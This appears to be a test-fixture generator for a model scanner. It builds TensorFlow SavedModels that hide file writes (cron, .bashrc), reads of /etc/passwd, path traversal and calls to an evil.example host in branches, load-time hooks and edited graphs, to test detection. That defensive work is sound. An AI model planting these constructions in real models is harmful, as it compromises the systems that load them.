"""Writes the SavedModels that internal/scan is tested with: published ways around scanners, each built with TensorFlow.

    python conformance/corpus/attacks.py internal/scan/testdata [NAME...]

None of them is run: every path is one of a test, and nothing here calls the functions. Only the file with the graph is kept.
"""

import os
import pathlib
import shutil
import sys
import tempfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ.setdefault("CUDA_VISIBLE_DEVICES", "-1")

import tensorflow as tf
from google.protobuf import text_format
from tensorflow.core.protobuf import saved_model_pb2

v1 = tf.compat.v1
raw = tf.raw_ops
MODELS = {}
X = tf.TensorSpec([], tf.float32, name="x")


def attack(build):
    MODELS[build.__name__] = build
    return build


def write(path="/tmp/pwned"):
    raw.WriteFile(filename=path, contents="boo")


def module(body, *signature):
    """A module whose only function has a body."""
    m = tf.Module()
    m.f = tf.function(body, input_signature=list(signature or [X]))
    return m


def save(m, out, **kwargs):
    tf.saved_model.save(m, str(out), **kwargs)


def edit(out, change):
    path = out / "saved_model.pb"
    proto = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    change(proto.meta_graphs[0])
    path.write_bytes(proto.SerializeToString())


def harmless(out):
    save(module(lambda x: x + 1.0), out)


@attack
def clean(out):
    harmless(out)


# Where it is hidden.

@attack
def no_signature(out):
    def f(x):
        write()
        return x
    m = module(lambda x: x + 1.0)
    m.g = tf.function(f, input_signature=[X])
    save(m, out, signatures=m.f)


@attack
def cond_branch(out):
    def f(x):
        if x > 0:
            write()
        return x
    save(module(f), out)


@attack
def while_body(out):
    def f(x):
        for _ in tf.range(3):
            write()
        return x
    save(module(f), out)


@attack
def case_branch(out):
    def quiet():
        write()
        return 1.0
    save(module(lambda n: tf.switch_case(n, [lambda: 0.0, quiet]), tf.TensorSpec([], tf.int32, name="n")), out)


@attack
def nested_calls(out):
    inner = tf.function(lambda x: (write(), x)[1])
    save(module(lambda x: tf.function(lambda y: inner(y))(x)), out)


@attack
def dataset_map(out):
    def f(x):
        def g(v):
            write()
            return v
        return tf.data.Dataset.range(3).map(g).reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    save(module(f), out)


@attack
def unused_function(out):
    save(module(lambda x: (write(), x)[1]), out)

    def change(g):
        g.object_graph_def.Clear()
        del g.graph_def.node[:]
        g.signature_def.clear()
        g.ClearField("saver_def")
        g.collection_def.clear()
    edit(out, change)


@attack
def hidden_graph(out):
    graph = tf.Graph()
    with graph.as_default():
        write()
        dataset = raw.RangeDataset(start=tf.constant(0, tf.int64), stop=tf.constant(1, tf.int64), step=tf.constant(1, tf.int64),
                                   output_types=[tf.int64], output_shapes=[[]])
        raw._Retval(T=tf.variant, input=dataset, index=0) if hasattr(raw, "_Retval") else tf.identity(dataset)
    serialized = graph.as_graph_def().SerializeToString()

    def f(x):
        raw.DatasetFromGraph(graph_def=serialized)
        return x
    save(module(f), out)


@attack
def hidden_twice(out):
    inner, outer = tf.Graph(), tf.Graph()
    with inner.as_default():
        write()
    with outer.as_default():
        raw.DatasetFromGraph(graph_def=inner.as_graph_def().SerializeToString())
    save(module(lambda x: (raw.DatasetFromGraph(graph_def=outer.as_graph_def().SerializeToString()), x)[1]), out)


@attack
def graph_from_caller(out):
    save(module(lambda s: (raw.DatasetFromGraph(graph_def=s), s)[1], tf.TensorSpec([], tf.string, name="s")), out)


@attack
def text_only(out):
    save(module(lambda x: (write(), x)[1]), out)
    proto = saved_model_pb2.SavedModel.FromString((out / "saved_model.pb").read_bytes())
    (out / "saved_model.pb").unlink()
    (out / "saved_model.pbtxt").write_text(text_format.MessageToString(proto))


@attack
def text_beside(out):
    text_only(out)
    with tempfile.TemporaryDirectory() as tmp:
        harmless(pathlib.Path(tmp) / "m")
        shutil.copy(pathlib.Path(tmp) / "m" / "saved_model.pb", out)


@attack
def second_meta_graph(out):
    with v1.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [], name="x")
        v1.get_variable("v", initializer=1.0)
        session.run(v1.global_variables_initializer())
        builder = v1.saved_model.Builder(str(out))
        info = v1.saved_model.build_tensor_info
        signature = {"s": v1.saved_model.build_signature_def({"x": info(x)}, {"y": info(x + 1.0)})}
        builder.add_meta_graph_and_variables(session, ["serve"], signature)
        with v1.control_dependencies([raw.WriteFile(filename="/tmp/pwned", contents="boo")]):
            y = tf.identity(x)
        builder.add_meta_graph(["serve", "gpu"], {"s": v1.saved_model.build_signature_def({"x": info(x)}, {"y": info(y)})})
        builder.save()


# At load.

@attack
def main_op(out):
    with v1.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [], name="x")
        op = raw.WriteFile(filename="/tmp/pwned", contents="boo")
        info = v1.saved_model.build_tensor_info
        builder = v1.saved_model.Builder(str(out))
        builder.add_meta_graph_and_variables(session, ["serve"], {"s": v1.saved_model.build_signature_def({"x": info(x)}, {"y": info(x)})}, main_op=op)
        builder.save()


@attack
def initializer(out):
    from tensorflow.python.trackable import resource

    class Resource(resource.TrackableResource):
        def _create_resource(self):
            return raw.AnonymousMutableHashTable(key_dtype=tf.string, value_dtype=tf.float32)

        def _initialize(self):
            write()

    m = module(lambda x: x)
    m.r = Resource()
    save(m, out)


@attack
def restore_function(out):
    m = module(lambda x: x)
    m.v = tf.Variable(1.0)
    save(m, out)

    def change(g):
        for f in g.graph_def.library.function:
            if "traced_restore" in f.signature.name:
                c = f.node_def.add(name="evil", op="Const")
                c.attr["dtype"].type = 7
                c.attr["value"].tensor.dtype = 7
                c.attr["value"].tensor.tensor_shape.SetInParent()
                c.attr["value"].tensor.string_val.append(b"/tmp/pwned")
                f.node_def.add(name="evil_write", op="WriteFile", input=["evil:output:0", "evil:output:0"])
                f.control_ret["evil_write"] = "evil_write"
                f.signature.control_output.append("evil_write")
    edit(out, change)


@attack
def saver_elsewhere(out):
    m = module(lambda x: x)
    m.v = tf.Variable(1.0)
    save(m, out)

    def change(g):
        for f in g.graph_def.library.function:
            if "traced_save" in f.signature.name:
                for n in f.node_def:
                    if n.op == "StringJoin":
                        n.input[0] = "evil:output:0"
                c = f.node_def.add(name="evil", op="Const")
                c.attr["dtype"].type = 7
                c.attr["value"].tensor.dtype = 7
                c.attr["value"].tensor.tensor_shape.SetInParent()
                c.attr["value"].tensor.string_val.append(b"/etc/cron.d/x")
    edit(out, change)


# What is written.

@attack
def print_to_file(out):
    save(module(lambda x: (tf.print("boo", output_stream="file:///tmp/pwned"), x)[1]), out)


@attack
def print_to_stderr(out):
    save(module(lambda x: (tf.print("boo", x), x)[1]), out)


@attack
def save_ops(out):
    def f(x):
        raw.Save(filename="/tmp/pwned1", tensor_names=["a"], data=[x])
        raw.SaveSlices(filename="/tmp/pwned2", tensor_names=["a"], shapes_and_slices=[""], data=[x])
        raw.SaveV2(prefix="/tmp/pwned3", tensor_names=["a"], shape_and_slices=[""], tensors=[x])
        raw.MergeV2Checkpoints(checkpoint_prefixes=["/tmp/pwned3"], destination_prefix="/tmp/pwned4")
        return x
    save(module(f), out)


@attack
def debug_identity(out):
    save(module(lambda x: raw.DebugIdentityV2(
        input=x, tfdbg_context_id="a", op_name="b", output_slot=0, tensor_debug_mode=2, debug_urls=["file:///tmp/pwned"])), out)


@attack
def summary_writer(out):
    def f(x):
        w = raw.SummaryWriter(shared_name="w", container="")
        raw.CreateSummaryFileWriter(writer=w, logdir="/tmp/pwned", max_queue=1, flush_millis=1, filename_suffix=".sh")
        raw.WriteScalarSummary(writer=w, step=tf.constant(1, tf.int64), tag="boo", value=x)
        return x
    save(module(f), out)


@attack
def joined_path(out):
    def f(s):
        write(tf.strings.join(["/home/", s, "/.bashrc"]))
        return s
    save(module(f, tf.TensorSpec([], tf.string, name="s")), out)


@attack
def encoded_path(out):
    save(module(lambda x: (write(tf.io.decode_base64("L2V0Yy9jcm9uLmQveA")), x)[1]), out)


@attack
def passed_path(out):
    inner = tf.function(lambda p: write(p))
    save(module(lambda x: (inner(tf.constant("/tmp/passed")), x)[1]), out)


@attack
def snapshot(out):
    def f(x):
        d = tf.data.Dataset.range(3).snapshot("/tmp/pwned").cache("/tmp/cache")
        return d.reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    save(module(f), out)


@attack
def memory_cache(out):
    def f(x):
        return tf.data.Dataset.range(3).cache().reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
    save(module(f), out)


# What is read.

@attack
def reads(out):
    def f(x):
        a = tf.io.read_file("/etc/passwd")
        b = tf.io.matching_files("/home/*")
        return {"a": a, "b": b}
    save(module(f), out)


@attack
def whole_file_reader(out):
    with v1.Graph().as_default(), v1.Session() as session:
        queue = v1.FIFOQueue(1, tf.string)
        enqueue = queue.enqueue("/etc/passwd")
        reader = raw.WholeFileReaderV2()
        with v1.control_dependencies([enqueue]):
            key, value = raw.ReaderReadV2(reader_handle=reader, queue_handle=queue.queue_ref)
        x = v1.placeholder(tf.float32, [], name="x")
        info = v1.saved_model.build_tensor_info
        builder = v1.saved_model.Builder(str(out))
        builder.add_meta_graph_and_variables(session, ["serve"], {"s": v1.saved_model.build_signature_def({"x": info(x)}, {"y": info(value)})})
        builder.save()


@attack
def table_elsewhere(out):
    def f(k):
        t = raw.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)
        raw.InitializeTableFromTextFileV2(table_handle=t, filename="/etc/passwd", key_index=-2, value_index=-1)
        return raw.LookupTableFindV2(table_handle=t, keys=k, default_value=tf.constant(0, tf.int64))
    save(module(f, tf.TensorSpec([None], tf.string, name="k")), out)


@attack
def table_of_asset(out):
    with tempfile.TemporaryDirectory() as tmp:
        path = pathlib.Path(tmp) / "vocab.txt"
        path.write_text("a\nb\n")
        m = tf.Module()
        m.t = tf.lookup.StaticHashTable(tf.lookup.TextFileInitializer(
            str(path), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER), -1)
        m.f = tf.function(lambda k: m.t.lookup(k), input_signature=[tf.TensorSpec([None], tf.string, name="k")])
        save(m, out)


@attack
def asset_outside(out):
    table_of_asset(out)

    def change(g):
        g.asset_file_def[0].filename = "../../../etc/passwd"
    edit(out, change)


@attack
def restore_elsewhere(out):
    save(module(lambda x: raw.RestoreV2(prefix="/home/model", tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.float32])[0] + x), out)


@attack
def mapped_memory(out):
    save(module(lambda x: raw.ImmutableConst(dtype=tf.float32, shape=[4], memory_region_name="/etc/passwd") + x), out)


@attack
def record_readers(out):
    def f(x):
        d = tf.data.TFRecordDataset("/data/a.tfrecord")
        e = tf.data.TextLineDataset("/data/b.txt")
        return {"n": d.reduce(tf.constant(0, tf.int64), lambda a, b: a + 1), "m": e.reduce(tf.constant(0, tf.int64), lambda a, b: a + 1)}
    save(module(f), out)


# Code, network, configuration.

@attack
def py_func(out):
    save(module(lambda x: tf.ensure_shape(tf.py_function(lambda v: v, [x], tf.float32), [])), out)


@attack
def numpy_func(out):
    save(module(lambda x: tf.ensure_shape(tf.numpy_function(lambda v: v, [x], tf.float32), [])), out)


@attack
def file_system(out):
    save(module(lambda x: (raw.FileSystemSetConfiguration(scheme="s3", key="endpoint", value="evil.example"), x)[1]), out)


@attack
def parse_tensor(out):
    save(module(lambda s: tf.io.parse_tensor(s, tf.float32), tf.TensorSpec([], tf.string, name="s")), out)


@attack
def data_service(out):
    def f(x):
        raw.RegisterDataset(dataset=tf.data.Dataset.range(3)._variant_tensor, address="evil.example:80", protocol="grpc", external_state_policy=0)
        return x
    save(module(f), out)


@attack
def custom_op(out):
    harmless(out)

    def change(g):
        for f in g.graph_def.library.function:
            for n in f.node_def:
                if n.op == "AddV2":
                    n.op = "Evil>Run"
    edit(out, change)


def main():
    root = pathlib.Path(sys.argv[1])
    for name in sys.argv[2:] or MODELS:
        out = root / name
        shutil.rmtree(out, ignore_errors=True)
        MODELS[name](out)
        for entry in out.iterdir():
            if entry.name.startswith("saved_model."):
                continue
            shutil.rmtree(entry) if entry.is_dir() else entry.unlink()
    print(f"TensorFlow {tf.__version__}: {len(sys.argv[2:] or MODELS)} models in {root}")


if __name__ == "__main__":
    main()
